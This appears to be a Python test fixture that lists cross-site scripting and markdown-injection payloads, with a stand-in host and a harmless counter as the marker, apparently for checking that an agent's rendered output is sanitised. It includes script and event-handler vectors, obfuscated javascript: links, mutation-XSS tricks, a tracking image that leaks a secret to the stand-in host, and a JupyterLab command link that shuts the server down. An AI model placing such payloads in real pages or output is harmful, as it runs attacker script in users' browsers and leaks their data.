"""Texts with which an agent, or what it read, would try to act in the reader's browser. `HOST` is where a browser must not ask."""

from __future__ import annotations

from typing import Final

HOST: Final = "evil.invalid"
MARK: Final = "window.__pwned=(window.__pwned||0)+1"  # what every script would do

PAYLOADS: Final = (
    f"<script>{MARK}</script>",
    f"<img src=x onerror=\"{MARK}\">",
    f"<svg onload=\"{MARK}\"><circle r=9></svg>",
    f"<iframe srcdoc=\"<script>parent.{MARK}</script>\"></iframe>",
    f"<iframe src=\"https://{HOST}/frame\"></iframe>",
    f"![alt](https://{HOST}/pixel.png?secret=1)",
    f"<img src=\"https://{HOST}/pixel.png\">",
    f"[click](javascript:{MARK})",
    f"[click](JaVaScRiPt&colon;{MARK})",
    "[click](data:text/html;base64,PHNjcmlwdD4x)",
    f"<a href=\"jav\tascript:{MARK}\">a</a>",
    f"<style>@import url('https://{HOST}/a.css'); body{{background:url(https://{HOST}/b)}}</style>",
    f"<link rel=stylesheet href=\"https://{HOST}/c.css\">",
    f"<details open ontoggle=\"{MARK}\"><summary>x</summary></details>",
    f"<body onload=\"{MARK}\"><input autofocus onfocus=\"{MARK}\">",
    f"</textarea></pre></details></div><script>{MARK}</script>",
    f"<math><mtext></mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={MARK}&gt;\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={MARK}>\">",
    f"<template><script>{MARK}</script></template><object data=\"https://{HOST}/o\"></object><embed src=\"https://{HOST}/e\">",
    f"```html\n</code></pre><script>{MARK}</script>\n```",
    f"<meta http-equiv=refresh content=\"0;url=https://{HOST}/\"><base href=\"https://{HOST}/\">",
    f"<form action=\"https://{HOST}/f\"><button formaction=\"javascript:{MARK}\" autofocus>go</button></form>",
    f"<https://{HOST}/auto> <video src=\"https://{HOST}/v\" autoplay onerror=\"{MARK}\"></video>",
    f"\" onmouseover=\"{MARK}\" style=\"position:fixed;inset:0\" x=\"",
    "<a class=\"jp-mod-x\" data-commandlinker-command=\"notebook:delete-cell\" href=\"/api/shutdown\">run</a>",
)  # fmt: skip
